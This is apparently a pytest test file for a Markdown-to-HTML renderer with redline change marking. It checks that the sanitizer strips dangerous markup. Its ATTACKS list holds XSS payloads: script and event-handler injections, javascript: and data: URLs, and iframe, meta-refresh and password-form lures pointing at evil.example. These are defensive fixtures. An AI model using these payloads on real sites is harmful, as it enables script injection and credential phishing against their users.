import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from governance.text.clauses import parse
from governance.text.markdown import environment
from governance.text.marked import added_html, changed_html, removed_html
from governance.text.render import body_html, clause_html, clauses_html, markdown_html

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "<iframe src=//evil.example></iframe>",
    "<form action=//evil.example><input name=password><button>go</button></form>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<p id=main class=btn data-hx-get=/x hx-get=/x>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<b onmouseover=alert(1)>x</b>",
    '[x](http://a "onmouseover=alert(1)")',
    '[^1]\n\n[^1"onclick=alert(1)]: x\n\n[^1]: y',
    "![x](//evil.example/pixel.png)",
    '![x"onerror="alert(1)](http://evil.example/pixel.png)',
    "<video src=//evil.example></video><audio src=//evil.example></audio><embed src=//evil.example>",
    "<td background=//evil.example>x</td>",
    "<!--><img src=x onerror=alert(1)>-->",
    "`<script>alert(1)</script>`",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ins class='cs-ins'>spoofed</ins><del class='cs-del'>spoofed</del>",
    "<details><summary>s</summary>hidden duty</details>",
]
ALLOWED = {"a": {"href", "title", "rel"}, "p": {"id"}, "ol": {"start"}, "li": {"class"}, "ins": {"class"}} | {
    "del": {"class"},
    "td": {"align", "colspan", "rowspan"},
    "th": {"align", "colspan", "rowspan", "scope"},
}
TAGS = {
    "a", "b", "blockquote", "br", "code", "dd", "dl", "dt", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i",
    "kbd", "li", "ol", "p", "pre", "s", "strong", "sub", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr",
    "u", "ul",
}  # fmt: skip


class Reader(HTMLParser):
    """Reads HTML and objects to whatever a reader's browser should never get."""

    def __init__(self, html: str, tags: set[str]) -> None:
        super().__init__()
        self.open: list[str] = []
        self.tags = tags
        self.feed(html)
        self.close()
        assert self.open == [], f"left open: {self.open}"

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in self.tags, tag
        for name, value in attrs:
            assert name in ALLOWED.get(tag, set()), (tag, name)
            if name == "href":
                assert re.match(r"(https?:|mailto:|[^:]*\Z|[^:]*[/?#])", value or ""), value
                assert ("rel", "noopener noreferrer") in attrs
            if name == "id":
                assert (value or "").startswith("fn-")
            if name == "class":
                assert value in {"cs-ins", "cs-del", "cs-gone"}
        if tag not in {"br", "hr"}:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open, tag
        assert self.open.pop() == tag

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs_and_nothing_is_loaded(attack: str) -> None:
    Reader(body_html(attack), TAGS)
    for clause, html in clauses_html(attack, parse(attack)):
        assert clause
        Reader(html, TAGS)
    Reader(changed_html("plain words", attack), TAGS | {"ins", "del"})
    Reader(changed_html(attack, "plain words"), TAGS | {"ins", "del"})
    Reader(removed_html(attack), TAGS | {"ins", "del"})


PIECES = st.lists(st.sampled_from([*ATTACKS, "words", "\n\n", "- ", "> ", "`", "**", "|a|b|\n|-|-|\n", "<", '"', "&"]))


@given(PIECES, PIECES)
def test_nothing_runs_however_attacks_are_put_together(old: list[str], new: list[str]) -> None:
    before, after = "".join(old), "".join(new)
    Reader(body_html(after), TAGS)
    Reader(changed_html(before, after), TAGS | {"ins", "del"})


def test_marks_of_a_redline_cannot_be_written_by_an_author() -> None:
    assert markdown_html("<ins>a</ins> <del>b</del> ~~c~~") == "<p>a b <s>c</s></p>"


def test_folded_text_is_shown_openly() -> None:
    assert "hidden duty" in markdown_html("<details><summary>s</summary>hidden duty</details>")


def test_an_image_becomes_a_link_to_it() -> None:
    html = markdown_html("![The plan](https://example.org/plan.png)")
    assert html == '<p><a href="https://example.org/plan.png" rel="noopener noreferrer">The plan</a></p>'


def test_tables_written_in_html_stay_tables() -> None:
    html = markdown_html("<table><tr><td><ul><li>one<li>two</ul></td></tr></table>")
    assert html == "<table><tbody><tr><td><ul><li>one</li><li>two</li></ul></td></tr></tbody></table>"


def test_headings_fit_into_the_page() -> None:
    assert body_html("#### A\n\n###### B\n") == "<h2>A</h2>\n<h4>B</h4>\n"
    assert body_html("# A\n\n###### B\n", top=4) == "<h4>A</h4>\n<h6>B</h6>\n"


def test_a_heading_clause_is_words_alone() -> None:
    assert clause_html(parse("### The *first* & only\n")[0]) == "The <em>first</em> &amp; only"


def test_clauses_see_link_targets_and_footnotes_of_the_whole_body() -> None:
    body = "See [the law][l].[^1]\n\nOther.\n\n[l]: https://example.org\n\n[^1]: Article 5.\n"
    clauses, env = parse(body), environment(body)
    assert clause_html(clauses[0], env) == (
        '<p>See <a href="https://example.org" rel="noopener noreferrer">the law</a>.'
        '<sup><a href="#fn-1" rel="noopener noreferrer">1</a></sup></p>'
    )
    assert clause_html(clauses[2], env).startswith('<p id="fn-1"><sup>1</sup></p>')


def test_the_environment_is_not_changed_by_rendering() -> None:
    body = "A[^1] [x]\n\n[^1]: B\n\n[x]: /y\n"
    env = environment(body)
    before = repr(env)
    markdown_html("C[^1] [^2]\n\n[z]: /w\n\n[^2]: D", env)
    assert repr(env) == before


def test_changes_are_marked_within_the_words() -> None:
    assert changed_html("Every **twelve** months.", "Every **three** months.") == (
        '<p>Every <strong><del class="cs-del">twelve</del> <ins class="cs-ins">three</ins></strong> months.</p>'
    )


def test_another_target_under_the_same_words_is_a_change() -> None:
    html = changed_html("See [the list](https://example.org/a).", "See [the list](https://example.org/b).")
    assert '<del class="cs-del">the list</del>' in html
    assert '<ins class="cs-ins">the list</ins>' in html


def test_other_emphasis_is_a_change() -> None:
    assert "<ins" in changed_html("It must be so.", "It **must** be so.")


def test_a_removed_item_of_a_list_stays_in_the_list() -> None:
    html = changed_html("Do:\n\n- one\n- two\n- three\n", "Do:\n\n- one\n- three\n")
    assert '<li class="cs-gone"><del class="cs-del">two</del></li>' in html


def test_a_removed_row_stays_in_the_table() -> None:
    table = "| a | b |\n|---|---|\n| 1 | 2 |\n"
    html = changed_html(table + "| 3 | 4 |\n", table)
    assert '<tr><td><del class="cs-del">3</del></td></tr><tr><td><del class="cs-del">4</del></td></tr>' in html


def test_whole_clauses_are_marked() -> None:
    assert added_html("New **rule**") == (
        '<p><ins class="cs-ins">New</ins> <strong><ins class="cs-ins">rule</ins></strong></p>'
    )
    assert removed_html("## Old", inline=True) == '<del class="cs-del">Old</del>'


@given(st.text(alphabet="ab &<>.*_-`\n", max_size=40), st.text(alphabet="ab &<>.*_-`\n", max_size=40))
def test_taking_the_marks_away_gives_the_new_version(old: str, new: str) -> None:
    html = changed_html(old, new)
    without = re.sub(r'(<li class="cs-gone">)?<del class="cs-del">.*?</del>(</li>)?', "", html, flags=re.DOTALL)
    without = re.sub(r"</?ins[^>]*>", "", without)
    assert re.sub(r"\s+", "", without) == re.sub(r"\s+", "", markdown_html(new))
